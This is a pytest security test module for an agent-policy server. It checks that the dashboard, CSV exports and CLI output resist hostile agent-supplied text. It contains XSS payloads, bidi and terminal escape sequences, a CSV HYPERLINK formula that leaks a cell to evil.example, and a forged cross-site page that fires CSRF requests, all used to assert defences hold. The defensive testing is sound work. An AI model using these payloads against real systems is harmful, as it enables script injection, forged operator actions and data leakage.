"""An adversarial probe of what the server shows a human (docs/server.md, "The dashboard" and
"Security headers"; docs/threat-model.md): agents are untrusted, and their ids, action types
and field values (which reasons interpolate) reach an operator's screen and the files an
operator opens. Each test here failed before the fix it names, or pins a defence that held.

The browser tests drive Debian's Chromium (tests/playwright_fixtures.py) against one server per
module, seeded with hostile text before the page loads (the server-rendered first paint) and
again while it is open (the live stream)."""

from __future__ import annotations

import csv
import io
import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlsplit

import pytest

from tests.edges.probe_helpers import cli
from tests.playwright_fixtures import Pages
from tests.server.conftest import TOKEN, Server, http_request, raw_request

if TYPE_CHECKING:
    from playwright.sync_api import Dialog, Page

POLICY = '''policy probe version "1" {
  risk_threshold 100
  strikes 3
}
input {
  amount: number?
  note: string?
}
group trusted {
  agents "ops-*"
  risk_threshold 200
  limit 50 per 1h
}
action ISSUE_REFUND {
  when amount > 500 review risk 60 as REVIEW_LARGE "{agent_id} asks {action} of {amount}: {note}."
  allow risk 10 as SMALL "Small refund by {agent_id}: {note}."
}
otherwise block risk 10 as OTHER "{action} by {agent_id} is not covered: {note}."
'''


@pytest.fixture(scope="module")
def probed(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """One server for the module, on a policy with reviews, groups, limits and reasons that
    interpolate everything an agent sends."""
    folder = tmp_path_factory.mktemp("web-probe")
    policy = folder / "probe.sentra"
    policy.write_text(POLICY, "utf-8")
    running = Server(policy, folder / "sentra.db", TOKEN)
    yield running
    running.stop()


def decide(server: Server, agent: str, action: str, **fields: object) -> None:
    answer = server.post("/v1/decide", {"agent_id": agent, "action": action, "fields": fields},
                         token=TOKEN)
    assert answer.status == 200, answer.text


# ---------------------------------------------------------------------------- headers

DASHBOARD_CSP = ("default-src 'none'; script-src 'self'; style-src 'self'; "
                 "style-src-attr 'unsafe-inline'; img-src 'self' data:; connect-src 'self'; "
                 "base-uri 'none'; form-action 'self'; frame-ancestors 'none'")


def assert_guarded(headers: dict[str, str], csp: str, *, cached: bool = False) -> None:
    """The security headers of docs/server.md ("Security headers")."""
    assert headers.get("x-content-type-options") == "nosniff", headers
    assert headers.get("x-frame-options") == "DENY", headers
    assert headers.get("referrer-policy") == "no-referrer", headers
    assert headers.get("content-security-policy") == csp, headers
    if not cached:
        assert "no-store" in headers.get("cache-control", "") or \
            headers.get("content-type", "").startswith("text/event-stream"), headers


def test_every_answer_carries_the_security_headers(probed: Server) -> None:
    """Before: no answer had any of them, so the dashboard could be framed (its approve, deny
    and reset buttons clickjacked), answers sniffed, and operator data cached on disk."""
    data = "default-src 'none'; frame-ancestors 'none'"
    decide(probed, "header-agent", "ISSUE_REFUND", amount=5)
    assert_guarded(probed.get("/dashboard").headers, DASHBOARD_CSP)
    for path in ("/v1/events", "/v1/agents", "/v1/impact?format=csv", "/v1/dashboard/snapshot",
                 "/v1/reviews?status=pending", "/health", "/events", "/metrics", "/nowhere",
                 "/v1/impact?format=xml"):
        assert_guarded(probed.get(path, token=TOKEN).headers, data)
    # the lean decision path, an operator action, and the edge's own refusals
    lean = probed.post("/agent-action", {"agent_id": "header-agent", "action_type": "X"})
    assert lean.status == 200
    assert_guarded(lean.headers, data)
    assert_guarded(probed.post("/v1/agents/header-agent/reset", token=TOKEN).headers, data)
    assert_guarded(probed.post("/v1/reset").headers, data)            # 401/403
    refused = raw_request(probed.port, http_request(
        "POST", "/v1/reset", probed.port, body=b"a=1",
        headers={"Content-Type": "application/x-www-form-urlencoded"}))
    assert refused.status == 415
    assert_guarded(refused.headers, data)
    foreign = raw_request(probed.port, b"GET /v1/agents HTTP/1.1\r\nHost: evil.example\r\n"
                                       b"Connection: close\r\n\r\n")
    assert foreign.status == 400
    assert_guarded(foreign.headers, data)
    # static assets may be cached (they change only with the package); the stream keeps its own
    script = probed.get("/static/dashboard.js")
    assert_guarded(script.headers, data, cached=True)
    assert "no-store" not in script.headers.get("cache-control", "")
    # FastAPI's /docs loads Swagger UI from a CDN: only framing is refused there
    assert_guarded(probed.get("/docs").headers, "frame-ancestors 'none'")


# ---------------------------------------------------------------------- hostile text, shown

OWNED = "window.__owned"
"""Every payload that runs sets this."""
MARKUP = ['</script><script>window.__owned="script"</script>',
          '<img src=x onerror="window.__owned=\'img\'">',
          '<svg onload="window.__owned=\'svg\'"><circle r=9 /></svg>',
          '"\' onmouseover="window.__owned=\'attr\'" x="',
          'javascript:window.__owned="url"',
          '${window.__owned="template"}{{7*7}}']
"""Text that is markup or code somewhere: each must be shown exactly as it was sent."""
BIDI = "\u202eevil\u202c"
"""Shown as itself, this reads `live`: the override reverses `evil`."""
HIDDEN = {BIDI: "U+202EevilU+202C", "ad\u200bmin": "adU+200Bmin",
          "line\nbreak\x00": "lineU+000AbreakU+0000", "\x1b[2Jclear": "U+001B[2Jclear",
          "root\U000e0041": "rootU+E0041", "soft\xadhyphen": "softU+00ADhyphen"}
"""Text with control or format characters, and how the page must show it."""
LONG = "L" * 3000
PAYLOADS = [*MARKUP, *HIDDEN, LONG]
ATTRIBUTES_THAT_RUN = """() => [...document.querySelectorAll('*')].flatMap((e) =>
    [...e.attributes].filter((a) => a.name.startsWith('on') || ['href', 'src', 'action',
      'formaction', 'xlink:href'].includes(a.name) && !/^(#|\\/|blob:|data:,$)/.test(a.value))
    .map((a) => e.tagName + ' ' + a.name + '=' + a.value))"""
"""Event handler attributes anywhere, and links or sources that are not the page's own."""
SHOWN = {**{text: text for text in MARKUP}, **HIDDEN, LONG: LONG}
"""What each payload's cell must read (textContent)."""


def hostile(server: Server, prefix: str) -> None:
    """Each payload as an agent id, an action type, a field every reason interpolates, a group
    badge's agent and an operator's name; each id blocked three times (shut down, so the Impact
    view's agents table lists it) and one action held for review."""
    for text in PAYLOADS:
        agent = prefix + text
        decide(server, agent, "ISSUE_REFUND", amount=700, note=text)        # a review ticket
        for _ in range(3):
            decide(server, agent, text, note=text)                           # OTHER, shut down
        answer = server.post("/agent-action", {"agent_id": "ops-" + agent, "action_type": text,
                                               "target": text, "policy_context": {}})
        assert answer.status == 200, answer.text
        assigned = server.request("PUT", "/v1/agents/" + quote("ops-" + agent, safe="") + "/group",
                                  {"group": "trusted", "operator": text[:200]}, token=TOKEN)
        assert assigned.status == 200, assigned.text


@pytest.fixture(scope="module")
def seeded(probed: Server) -> Server:
    """The module's server with every payload in its log before any page loads."""
    hostile(probed, "")
    return probed


class EvilSite:
    """Another origin on loopback (``localhost`` and a port of its own, where the server is
    ``127.0.0.1``): a page an operator opens, serving the HTML of ``pages`` by path."""

    def __init__(self) -> None:
        self.pages: dict[str, str] = {}
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
                body = site.pages.get(self.path, "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                """Quiet."""

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://localhost:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()


@pytest.fixture(scope="module")
def evil_site() -> Iterator[EvilSite]:
    site = EvilSite()
    yield site
    site.httpd.shutdown()


class Watched:
    """A dashboard page with every dialog recorded (and dismissed, or answered from
    ``answers``) and every request it made."""

    def __init__(self, pages: Pages, url: str, *, javascript: bool = True,
                 answers: list[str] | None = None) -> None:
        self.dialogs: list[str] = []
        self.requests: list[tuple[str, dict[str, str]]] = []
        self.answers = list(answers or [])
        self.pages = pages
        self.page = pages.open(javascript=javascript, width=1400, height=1000)
        self.page.on("dialog", self._dialog)
        self.page.on("request", lambda request: self.requests.append(
            (request.url, request.headers)))
        self.page.goto(url)

    def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        if self.answers:
            dialog.accept(self.answers.pop(0))
        else:
            dialog.dismiss()

    def assert_nothing_ran(self) -> None:
        """No payload ran, no element or attribute came from one, nothing was logged."""
        page = self.page
        assert page.evaluate(f"() => typeof {OWNED}") == "undefined"
        assert page.evaluate(ATTRIBUTES_THAT_RUN) == []
        assert page.evaluate("() => document.querySelectorAll('img, iframe, object, embed, "
                             "script:not(#config):not([src])').length") == 0
        assert page.evaluate("() => [...document.querySelectorAll('svg')].map((s) => s.id)") \
            == ["chart", "impact-chart-actions", "impact-chart-exposure"]
        assert self.pages.errors(page) == []


def live(page: Page) -> None:
    page.wait_for_function("() => document.getElementById('live').textContent === 'live'",
                           timeout=15_000)


def column(page: Page, table: str, index: int) -> list[str]:
    texts: list[str] = page.evaluate(
        f"() => [...document.querySelectorAll('#{table} tbody tr')].map((r) => "
        f"r.cells[{index}] ? r.cells[{index}].textContent : '')")
    return texts


@pytest.mark.slow
def test_hostile_text_is_shown_as_text_in_every_view(seeded: Server, pages: Pages) -> None:
    """Markup, script, quotes, ``javascript:`` and template syntax from agents, on the first
    paint, through the live stream, in the review panel, the inspector, the chart and the Impact
    view: nothing runs and each reads exactly as sent."""
    watched = Watched(pages, seeded.url + "/dashboard")
    page = watched.page
    live(page)
    hostile(seeded, "live ")                                   # through the live stream
    page.wait_for_function("() => [...document.querySelectorAll('#events tbody tr')]"
                           ".some((r) => r.cells[2].textContent === 'live ' + "
                           + json.dumps(LONG) + ")", timeout=15_000)
    agents = column(page, "events", 2)
    for prefix in ("", "live "):
        for text in PAYLOADS:
            assert prefix + SHOWN[text] in agents or "ops-" + prefix + SHOWN[text] in agents
    assert set(SHOWN.values()) <= set(column(page, "events", 3))      # action types
    page.wait_for_function("() => document.querySelectorAll('#reviews tbody tr').length >= 20")
    assert {SHOWN[text] for text in PAYLOADS} <= set(column(page, "reviews", 1))
    for row in range(page.locator("#events tbody tr").count() // 4):  # every hover handler
        page.locator("#events tbody tr").nth(row).hover()
    for text in MARKUP:                                                 # the inspector
        page.evaluate("(agent) => [...document.querySelectorAll('#events tbody tr')].find((r) =>"
                      " r.cells[2].textContent === agent && r.cells[4].textContent === 'Blocked')"
                      ".click()", "live " + text)
        page.wait_for_function("(text) => document.querySelector('#inspector p + p')"
                               "?.textContent.includes(text)", arg=text)
        assert page.text_content("#chart-agent") == "live " + text
    for text in MARKUP:                                  # the filter box, typed or chosen
        page.fill("#filter-agent", text)
        page.wait_for_function("(agent) => [...document.querySelectorAll('#events tbody tr')]"
                               ".every((r) => r.cells[2].textContent === agent)", arg=text)
        assert page.locator("#events tbody tr").count() == 4     # held, blocked thrice
    page.goto(seeded.url + "/dashboard#impact")
    page.wait_for_function("() => document.getElementById('impact-status').textContent"
                           ".startsWith('as of')", timeout=15_000)
    assert {SHOWN[text] for text in PAYLOADS} <= set(column(page, "impact-agents-table", 0))
    watched.assert_nothing_ran()
    assert watched.dialogs == []


@pytest.mark.slow
def test_the_dashboard_cannot_be_framed_and_its_policy_is_enforced(
        probed: Server, pages: Pages, evil_site: EvilSite) -> None:
    """A page of another origin that frames the dashboard gets an empty frame (clickjacking);
    and markup that reached the page anyway could not run: the policy refuses inline handlers
    (before, the dashboard had no policy and could be framed)."""
    evil_site.pages["/frame.html"] = f'<iframe id="target" src="{probed.url}/dashboard"></iframe>'
    page = pages.open()
    with page.expect_response(f"{probed.url}/dashboard") as framed:
        page.goto(evil_site.url + "/frame.html")
    assert framed.value.status == 200          # the server answered; the browser refused it
    page.wait_for_timeout(300)
    frame = page.frame_locator("#target")
    assert frame.locator("#live").count() == 0
    dashboard = pages.open(probed.url + "/dashboard")
    live(dashboard)
    dashboard.evaluate("""() => {
        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__owned = 1">');
        const script = document.createElement('script');
        script.textContent = 'window.__owned = 2';
        document.body.append(script);
    }""")
    dashboard.wait_for_timeout(300)
    assert dashboard.evaluate(f"() => typeof {OWNED}") == "undefined"
    assert any("Content Security Policy" in error for error in pages.errors(dashboard))


ROWS = """(selector) => [...document.querySelectorAll(selector)].map((row) =>
    [...row.cells].map((cell) => [cell.textContent, cell.querySelectorAll('.ctl').length]))"""


@pytest.mark.slow
def test_control_characters_are_marked_on_the_first_paint_and_by_the_script(
        seeded: Server, pages: Pages) -> None:
    """Before, ``\\u202eevil\\u202c`` read `live` (the override reversed it), a zero-width space
    hid in `admin`, and a prompt to reset such an agent named another one. Now each such
    character is a marked ``U+XXXX`` on the server's first paint and in the script's rows
    alike, and ``[U+XXXX]`` in a prompt."""
    rendered = []
    for javascript in (False, True):
        page = pages.open(javascript=javascript, width=1400)
        page.route("**/v1/events/stream*", lambda route: None)   # the snapshot only
        page.goto(seeded.url + "/dashboard")
        rendered.append((page.evaluate(ROWS, "#agents tbody tr"),
                         page.evaluate(ROWS, "#events tbody tr")))
        agents = {row[0][0]: row[0][1] for row in rendered[-1][0]}
        for shown in HIDDEN.values():
            assert agents[shown] == len(shown.split("U+")) - 1, (javascript, shown)
        assert pages.errors(page) == []
    assert rendered[0] == rendered[1]
    watched = Watched(pages, seeded.url + "/dashboard")
    live(watched.page)
    watched.page.click(f"#agents tr[data-agent={json.dumps(BIDI, ensure_ascii=False)}] button.reset")
    for _ in range(300):   # a Playwright call, in which the dialog reaches its handler
        if watched.dialogs:
            break
        watched.page.wait_for_timeout(50)
    assert watched.dialogs == ['Operator token to reset agent "[U+202E]evil[U+202C]":']
    watched.page.click(f"#agents tr[data-agent={json.dumps(BIDI, ensure_ascii=False)}] td")
    watched.page.wait_for_function("(shown) => document.getElementById('chart-agent')"
                                   ".textContent === shown", arg=HIDDEN[BIDI])
    assert watched.page.locator("#chart-agent .ctl").count() == 2
    watched.assert_nothing_ran()


@pytest.mark.slow
def test_a_long_id_or_action_does_not_widen_the_page(seeded: Server, pages: Pages) -> None:
    """A 3,000-character agent id and action type wrap inside their cells: before, selecting
    such an agent made the chart's heading (and so the page) 35,000 px wide, and its action
    pushed the event table's decision and rule columns out of sight."""
    page = pages.open(seeded.url + "/dashboard", width=1400)
    live(page)
    page.click(f"#agents tr[data-agent={json.dumps(LONG)}] td")
    page.evaluate("(agent) => [...document.querySelectorAll('#events tbody tr')].find((r) =>"
                  " r.cells[2].textContent === agent && r.cells[4].textContent === 'Blocked')"
                  ".click()", LONG)
    page.wait_for_function("(text) => document.querySelector('#inspector p + p')"
                           "?.textContent.includes(text)", arg=LONG)
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 1400
    for table in ("agents", "events", "reviews"):
        overflow = page.evaluate(f"""() => {{ const table = document.getElementById('{table}');
            return table.offsetWidth - table.parentElement.clientWidth; }}""")
        assert overflow <= 1, (table, overflow)
    assert pages.errors(page) == []


# ------------------------------------------------------------------------------ CSV exports

def agents_csv(server: Server) -> list[dict[str, str]]:
    answer = server.get("/v1/impact?format=csv&table=agents")
    assert answer.status == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\x00"])
def test_no_csv_cell_starts_a_formula(probed: Server, start: str) -> None:
    """Every cell an agent's text starts (its id; the other tables' cells are the policy's) gets
    a leading `'` when a spreadsheet would read it as a formula. Before, a NUL (ASVS 1.2.10)
    or a line feed first was written as it was."""
    agent = f"{start}HYPERLINK(\"http://evil.example/?\"&A1) csv"
    for _ in range(3):
        decide(probed, agent, "DELETE_ALL")
    rows = {row["agent"]: row for row in agents_csv(probed)}
    assert "'" + agent in rows, sorted(rows)
    assert not [cell for row in rows.values() for cell in row.values()
                if cell[:1] in ("=", "+", "@", "\t", "\r", "\n", "\x00") or
                cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()]


# ------------------------------------------------------------------------------------ CSRF

def cross_site_page(server: Server, ticket: str) -> str:
    """A page of another origin that tries every operator action without the token, as forms
    (which a browser sends across sites without asking) and as scripts."""
    url = server.url
    forms = [("/v1/agents/victim/reset", "application/x-www-form-urlencoded", "x", "1"),
             ("/v1/reset", "multipart/form-data", "x", "1"),
             (f"/v1/reviews/{ticket}/approve", "text/plain", '{"operator": "evil", "x": "', '"}'),
             ("/agent-action", "text/plain", '{"agent_id": "victim2", "action_type": "X", "x": "',
              '"}'),
             ("/v1/agents/victim/group", "text/plain", '{"group": "trusted", "x": "', '"}')]
    parts = []
    for index, (path, kind, name, value) in enumerate(forms):
        parts.append(f'<iframe name="f{index}"></iframe><form id="form{index}" method="post" '
                     f'target="f{index}" enctype="{kind}" action="{url}{path}">'
                     f"<input name='{name}' value='{value}'></form>")
    script = f"""<script>
      for (const form of document.forms) form.submit();
      const url = {json.dumps(url)};
      window.results = [];
      const note = (p) => p.then((r) => results.push(r.type), (e) => results.push(String(e)));
      note(fetch(url + "/v1/reset", {{method: "POST", mode: "no-cors"}}));
      note(fetch(url + "/v1/agents/victim/reset", {{method: "POST", mode: "no-cors",
        headers: {{"Content-Type": "text/plain"}}, body: "{{}}"}}));
      note(fetch(url + "/v1/agents/victim/group", {{method: "PUT",
        headers: {{"Content-Type": "application/json", "Authorization": "Bearer guess"}},
        body: JSON.stringify({{group: "trusted", operator: "evil"}})}}));
      navigator.sendBeacon(url + "/v1/reset", "x");
    </script>"""
    return "<!doctype html><body>" + "".join(parts) + script + "</body>"


@pytest.mark.slow
def test_a_cross_site_page_triggers_no_operator_action(probed: Server, pages: Pages,
                                                       evil_site: EvilSite) -> None:
    """Reset, approve, deny, assign and decide need the bearer token, which no cross-site
    request can carry (the server reads no cookie), and a body declared as JSON, which a form
    cannot send: every request the page makes reaches the server and is refused, and nothing
    is written. (This held.)"""
    for _ in range(3):
        decide(probed, "victim", "DELETE_ALL")
    answer = probed.post("/v1/decide", {"agent_id": "victim-review", "action": "ISSUE_REFUND",
                                        "fields": {"amount": 900}}, token=TOKEN)
    ticket = answer.json()["decision"]["ticket"]
    head = probed.head(TOKEN)
    evil_site.pages["/csrf.html"] = cross_site_page(probed, ticket)
    page = pages.open()
    statuses: list[tuple[str, int]] = []
    page.on("response", lambda response: statuses.append((response.request.method,
                                                          response.status))
            if response.url.startswith(probed.url) else None)
    page.goto(evil_site.url + "/csrf.html")
    page.wait_for_function("() => window.results && window.results.length === 3")
    page.wait_for_timeout(500)
    assert len(statuses) >= 6, statuses                       # they reached the server
    assert {status for _, status in statuses} <= {401, 403, 405, 415}, statuses
    assert probed.get("/v1/agents/victim").json()["status"] == "shut_down"
    assert probed.get(f"/v1/reviews/{ticket}").json()["status"] == "pending"
    assert probed.get("/v1/agents/victim2").json()["known"] is False
    assert probed.head(TOKEN) == head


@pytest.mark.slow
def test_the_dashboard_keeps_the_operator_token_to_itself(probed: Server, pages: Pages) -> None:
    """The operator token goes only to the dashboard's own origin, in the `Authorization`
    header, never in an address or a link, and is kept in the tab's `sessionStorage`, never
    in `localStorage` (docs/server.md). (This held.)"""
    for _ in range(3):
        decide(probed, "token-victim", "DELETE_ALL")
    watched = Watched(pages, probed.url + "/dashboard", answers=[TOKEN])
    page = watched.page
    live(page)
    page.click("#agents tr[data-agent='token-victim'] button.reset")
    page.wait_for_function("() => !document.querySelector(\"#agents tr[data-agent="
                           "'token-victim']\").classList.contains('shut-down')")
    # The token is kept once the reset's answer is read, which may come after the live view
    # has already shown the agent running again: wait for it rather than race it.
    page.wait_for_function("() => sessionStorage.getItem('sentra-token') !== null")
    assert watched.dialogs == ['Operator token to reset agent "token-victim":']
    origin = urlsplit(probed.url)
    sent = [(url, headers.get("authorization")) for url, headers in watched.requests]
    assert [url for url, _ in sent if urlsplit(url)[:2] != origin[:2]
            and not url.startswith("data:")] == []
    assert [url for url, _ in sent if TOKEN in url] == []
    assert [auth for _, auth in sent if auth] == [f"Bearer {TOKEN}"]     # the reset alone
    assert page.evaluate("() => localStorage.length") == 0
    assert page.evaluate("() => sessionStorage.getItem('sentra-token')") == TOKEN
    assert TOKEN not in page.content()
    watched.assert_nothing_ran()


# ------------------------------------------------------------------- the operator's terminal

TERMINAL = "x\u009b2J\u202eevil\x1b]0;owned\x07"
"""An agent id with a C1 CSI (U+009B: "clear the screen" to a terminal that reads C1 codes), a
bidi override and an OSC sequence (which sets the terminal's title)."""
RAW = ("\u009b", "\u202e", "\x1b", "\x07")


def test_review_json_output_cannot_drive_the_operators_terminal(probed: Server) -> None:
    """`review show` and `review list --json` printed an agent's U+009B and U+202E as they were
    (JSON escapes only the characters below U+0020). Now they are JSON escapes: the same JSON,
    read back whole."""
    answer = probed.post("/v1/decide", {"agent_id": TERMINAL, "action": "ISSUE_REFUND",
                                        "fields": {"amount": 900, "note": TERMINAL}},
                         token=TOKEN)
    ticket = answer.json()["decision"]["ticket"]
    shown = cli("review", "show", ticket, "--server", probed.url)
    listed = cli("review", "list", "--json", "--agent", TERMINAL, "--server", probed.url)
    for done in (shown, listed):
        assert done.returncode == 0, done.stderr
        assert not [raw for raw in RAW if raw in done.stdout], done.stdout
    assert json.loads(shown.stdout)["agent_id"] == TERMINAL
    assert json.loads(shown.stdout)["input"]["note"] == TERMINAL
    assert [json.loads(line)["ticket"] for line in listed.stdout.splitlines()] == [ticket]


def test_a_replayed_suite_holds_no_raw_control_character(tmp_path: Path) -> None:
    """`replay --to-suite` wrote an agent's id and values as they were, so the suite a reviewer
    opens showed its lines reordered (and `check` warned SL016). Now they are escapes, and the
    suite still passes."""
    policy = tmp_path / "probe.sentra"
    policy.write_text(POLICY, "utf-8")
    server = Server(policy, tmp_path / "sentra.db", TOKEN)
    try:
        decide(server, TERMINAL, "ISSUE_REFUND", amount=5, note=TERMINAL)
        decide(server, TERMINAL, TERMINAL, note=TERMINAL)
    finally:
        server.stop()
    suite = tmp_path / "replayed.sentra-test"
    replayed = cli("replay", str(tmp_path / "sentra.db"), "--policy", str(policy),
                   "--to-suite", str(suite))
    assert replayed.returncode == 0, replayed.stdout + replayed.stderr
    text = suite.read_text("utf-8")
    assert not [raw for raw in RAW if raw in text], text
    assert "\\u202e" in text
    tested = cli("test", str(suite))
    assert tested.returncode == 0, tested.stdout + tested.stderr
    assert "SL016" not in tested.stdout + tested.stderr
